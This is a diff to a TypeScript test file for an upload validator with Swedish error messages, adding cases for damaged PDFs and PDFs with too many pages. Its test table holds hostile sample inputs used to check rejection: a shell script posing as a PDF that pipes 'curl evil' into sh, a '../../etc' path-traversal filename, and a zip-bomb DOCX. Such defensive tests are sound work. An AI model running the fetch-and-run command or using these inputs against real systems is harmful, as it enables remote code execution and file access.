@@ -8,10 +8,12 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { z } from "zod";
 import { type ClamdStandIn, EICAR, standInSocketPath, startClamdStandIn } from "../../src/attachments/testing/clamd-stand-in.ts";
 import {
+  DAMAGED_PDF,
   HTML_AS_PDF,
   JPEG,
   lyingZipBombDocx,
   PNG,
+  pagesPdf,
   SVG,
   sampleDocx,
   samplePdf,
@@ -119,6 +121,8 @@ describe("attachments (database storage, no scanner)", () => {
       ["a script named .pdf", "avtal.pdf", utf8("#!/bin/sh\ncurl evil | sh\n"), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
       ["SVG", "bild.svg", SVG, 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
       ["a zip bomb inside a DOCX", "protokoll.docx", await zipBombDocx(), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "zip_bomb"],
+      ["a PDF header on no PDF", "avtal.pdf", DAMAGED_PDF, 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "pdf_unreadable"],
+      ["a PDF of 2,001 pages", "lång.pdf", await pagesPdf(2001), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "pdf_too_many_pages"],
       ["an empty file", "tom.pdf", new Uint8Array(), 400, "VALIDATION_FAILED", "empty_file"],
       ["a name with ../", "../../etc/avtal.pdf", pdf, 400, "VALIDATION_FAILED", "filename_path"],
       ["a name with control characters", "avtal\u0007.pdf", pdf, 400, "VALIDATION_FAILED", "filename_control_characters"],
@@ -257,6 +261,7 @@ describe("attachments (database storage, no scanner)", () => {
 
     for (const [name, bytes, status, text] of [
       ["avtal.pdf", HTML_AS_PDF, 415, "Filen är inte en PDF, Word-, Excel-, PNG- eller JPEG-fil."],
+      ["trasig.pdf", DAMAGED_PDF, 415, "PDF-filen går inte att öppna (den kan vara skadad)."],
       ["tom.pdf", new Uint8Array(), 400, "Filen är tom."],
       ["../avtal.pdf", PNG, 400, "Filnamnet får inte innehålla / eller \\."],
       ["stor.pdf", new Uint8Array(25 * 1024 * 1024 + 1), 413, "Filen är större än 25 MB."],
